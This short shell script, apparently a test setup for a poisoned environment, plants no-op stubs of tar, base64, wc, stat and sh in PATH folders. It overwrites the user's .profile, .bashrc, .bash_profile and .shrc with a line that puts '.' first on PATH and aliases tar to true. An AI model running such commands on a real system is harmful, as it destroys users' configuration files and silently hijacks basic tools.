# Plants start files of the shell, and tools of the names that the collection of files uses, in every folder it can.
mkdir -p "$HOME/bin" "$HOME/.local/bin"
for name in tar base64 wc stat sh; do
  for folder in "$HOME/bin" "$HOME/.local/bin" .; do
    printf '#!/bin/sh\nexit 0\n' > "$folder/$name"
    chmod +x "$folder/$name"
  done
done
for name in .profile .bashrc .bash_profile .shrc; do echo 'PATH=.:$HOME/bin:$PATH; alias tar=true' > "$HOME/$name"; done
export ENV="$HOME/.shrc" BASH_ENV="$HOME/.shrc"
[ -s "$HOME/bin/tar" ] && echo witness
